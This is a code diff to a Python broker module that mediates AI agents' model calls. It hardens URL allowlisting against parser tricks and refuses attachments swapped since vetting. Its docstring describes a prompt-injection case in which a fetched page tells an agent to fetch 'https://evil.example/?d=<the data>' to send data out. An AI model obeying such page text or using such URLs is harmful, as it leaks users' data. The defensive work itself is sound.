@@ -17,13 +17,16 @@ next: the API fetches no other, so the model cannot compose one. A page cannot s
 data to an address of its choosing: a web request whose text holds a URL that did not appear in
 the task, its attachments or a search or fetch result seen in this run (`KnownUrls`) is refused,
 so an agent's code told by a page to "fetch https://evil.example/?d=<the data>" is refused before
-any call. A link inside a fetched page becomes known only once a result carries it. Nor can a
-page reach the key, the network, the user's files or other agents: its text arrives as text in
-a reply, and the agent's walls and the broker's allowlist are what they were.
+any call. URLs are compared as a URL parser reads them (`_urls`, `_normal`): `https:/evil` and
+`https:\\evil` are addresses too, and data glued to a known URL after any character makes it
+another URL, refused. A link inside a fetched page becomes known only once a result carries it.
+Nor can a page reach the key, the network, the user's files or other agents: its text arrives as
+text in a reply, and the agent's walls and the broker's allowlist are what they were.
 """
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 import re
@@ -33,19 +36,28 @@ from collections.abc import Callable, Collection, Mapping
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
-from urllib.parse import urlsplit
 
 from agentgod import agent_runtime
+from agentgod.attachments import file_identity
 from agentgod.kinds import EFFORT_LEVELS
 
 MAX_IMAGES = 100
 """The API's limit on images in one request (on 200k-context models; others take more)."""
-MESSAGES_FIELDS = frozenset({"op", "request", "web", "files"})
+MESSAGES_FIELDS = frozenset({"op", *agent_runtime.BROKER_OPS["messages"].fields})
+"""What a messages frame may hold: agent_runtime.BROKER_OPS says, as for the broker's dispatch."""
 REQUEST_FIELDS = frozenset({"model", "max_tokens", "system", "messages", "output_config"})
 """Anything else in a request (tools, temperature, stream, metadata, ...) is refused, not
 stripped: an agent that asked for it should learn it cannot have it."""
 BLOCK_FIELDS = frozenset({"type", "text", "cache_control"})
-URL_PATTERN = re.compile(r"https?://[^\s<>\"'`{}|\\^\[\]]+", re.IGNORECASE)
+_SCHEME = re.compile(r"https?:", re.IGNORECASE)
+_WHITESPACE = re.compile(r"\s")
+_LINK_NEXT = re.compile(r"\]\(https?:", re.IGNORECASE)
+"""A Markdown link's text ending in a URL and its target beginning with one: [url](url)."""
+_OPENS = {")": "(", "]": "[", "}": "{", ">": "<"}
+_ENDING = re.compile(r"(?P<emphasis>\*\*|\*|__|_)?(?P<close>[)\]}>'\"])?[.,;:!?]?\Z")
+"""What prose or Markdown puts right after a URL, taken off its end: one emphasis mark, one
+closing bracket or quote (a bracket only when the URL did not open it), one stop. No more: a run
+of such characters is the URL's own, and could carry data as well as letters can."""
 
 
 @dataclass(frozen=True)
@@ -66,6 +78,9 @@ class Grant:
     """Web searches this agent's calls may make together (MAX_SEARCHES_PER_AGENT); 0: none."""
     files: Mapping[str, Path] = field(default_factory=dict)
     """Attachments by the name the agent uses for them -> where the broker reads them."""
+    file_ids: Mapping[Path, tuple[int, int, int]] = field(default_factory=dict)
+    """attachments.file_identity of each file as it was vetted, by path: the broker reads a path
+    only while it still is that file (attachments.Attached.identities)."""
 
 
 class Refusal(Exception):
@@ -221,7 +236,9 @@ def checked(grant: Grant) -> Grant:
     if not isinstance(grant.max_searches, int) or grant.max_searches < 0:
         raise ValueError(f"max_searches must be a whole number, got {grant.max_searches!r}")
     models = frozenset(grant.allowed_models) | {grant.model}
-    return replace(grant, allowed_models=models, files=dict(grant.files))
+    return replace(
+        grant, allowed_models=models, files=dict(grant.files), file_ids=dict(grant.file_ids)
+    )
 
 
 def listed(names: list[str]) -> str:
@@ -272,11 +289,21 @@ def _attachment(grant: Grant, name: str, limit: int) -> dict[str, Any]:
     path = grant.files.get(name)
     if path is None:
         raise Refusal("forbidden", f"no file named {shown(name)} was given to this agent")
+    vetted = grant.file_ids.get(path)
+    replaced = Refusal(
+        "forbidden",
+        f"file {shown(name)} was replaced since it was attached: it is not the file that was "
+        "checked, so it is not read",
+    )
     try:
         # O_NONBLOCK: a FIFO put where a file was must not hang the channel; fstat refuses it.
-        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
+        # O_NOFOLLOW: a vetted file swapped for a link is not followed anywhere.
+        follow = os.O_NOFOLLOW if vetted is not None else 0
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC | follow)
         try:
             status = os.fstat(fd)
+            if vetted is not None and file_identity(status) != tuple(vetted):
+                raise replaced
             regular, size, data = stat.S_ISREG(status.st_mode), status.st_size, b""
             if regular and size <= limit:
                 with open(fd, "rb", closefd=False) as file:
@@ -284,6 +311,8 @@ def _attachment(grant: Grant, name: str, limit: int) -> dict[str, Any]:
         finally:
             os.close(fd)
     except OSError as error:
+        if vetted is not None and error.errno == errno.ELOOP:  # a link now stands there
+            raise replaced from None
         raise Refusal("invalid", f"file {shown(name)} cannot be read: {error.strerror}") from None
     if not regular:
         raise Refusal("invalid", f"file {shown(name)} is not a regular file")
@@ -345,27 +374,60 @@ def _texts(content: Any) -> str:
 
 
 def _urls(text: str) -> list[str]:
-    """The http(s) URLs in a text, without the punctuation that ends a sentence around them."""
+    """The http(s) URLs in a text, each as far as a URL parser would read it.
+
+    A URL starts at every `http:` or `https:` (any case, with any slashes after it, or none:
+    WHATWG parsers read `https:\\\\host` and `https:/host` as `https://host`) and runs to the next
+    whitespace, whatever characters it holds: data glued to a URL after a `|`, a `^` or a quote
+    is part of what a model could fetch, so it is part of what is compared. Only what prose puts
+    after a URL is taken off its end (`_ENDING`), and a Markdown link's `](` ends it when
+    another URL follows. A URL found inside another one is the outer one's part, not one of its
+    own.
+    """
+    starts = [found.start() for found in _SCHEME.finditer(text)]
+    spans: list[tuple[int, int]] = []
+    for start in starts:
+        if spans and start < spans[-1][1]:
+            continue  # inside the URL before it (https://a.example/?next=https://b.example)
+        end = _WHITESPACE.search(text, start)
+        stop = end.start() if end else len(text)
+        link = _LINK_NEXT.search(text, start, stop)
+        spans.append((start, link.start() if link else stop))
     found = []
-    for match in URL_PATTERN.finditer(text):
-        url = match.group(0)
-        while url:
-            closes = url[-1] == ")" and url.count(")") > url.count("(")
-            if url[-1] in ".,;:!?'\"" or closes:
-                url = url[:-1]
-            else:
-                break
-        found.append(url)
+    for start, stop in spans:
+        url = text[start:stop]
+        ending = _ENDING.search(url)
+        if ending is not None and ending.group():
+            kept, close = url[: ending.start()], ending.group("close") or ""
+            if close in _OPENS and kept.count(_OPENS[close]) > kept.count(close):
+                kept += (ending.group("emphasis") or "") + close  # (Python_(language))
+            url = kept
+        if _parts(url)[2]:  # "https:" with no host is a word, not a URL anything can fetch
+            found.append(url)
     return found
 
 
 def _normal(url: str) -> str:
-    """A URL as the broker compares them: scheme and host lower-cased, no fragment, "/" for
-    an empty path."""
-    try:
-        parts = urlsplit(url.strip())
-    except ValueError:
-        return url.strip().lower()
-    path = parts.path or "/"
-    query = f"?{parts.query}" if parts.query else ""
-    return f"{parts.scheme.lower()}://{parts.netloc.lower()}{path}{query}"
+    """A URL as a WHATWG parser resolves the parts that matter here: scheme and host lower-case,
+    the slashes after the scheme (backslashes too) as `//`, backslashes in the path as `/`, a
+    default port dropped, "/" for an empty path, no fragment (never sent). Anything else stays
+    as written, so two URLs a parser would tell apart never compare equal."""
+    scheme, user, host, path, query = _parts(url)
+    return f"{scheme}://{user}{host}{path}{query}"
+
+
+def _parts(url: str) -> tuple[str, str, str, str, str]:
+    """(scheme, userinfo with its "@", host with a port other than the default, path, "?query")
+    of an http(s) URL, read as `_normal` says."""
+    scheme, _, rest = url.strip().partition(":")
+    scheme = scheme.lower()
+    rest = rest.lstrip("/\\")
+    cut = min((at for at in map(rest.find, "/\\?#") if at >= 0), default=len(rest))
+    authority, rest = rest[:cut], rest[cut:].split("#", 1)[0]
+    path, mark, query = rest.partition("?")
+    user, at, host = authority.rpartition("@")
+    host = host.lower()
+    default = ":443" if scheme == "https" else ":80"
+    if host.endswith(default):
+        host = host[: -len(default)]
+    return scheme, user + at, host.removesuffix(":"), path.replace("\\", "/") or "/", mark + query
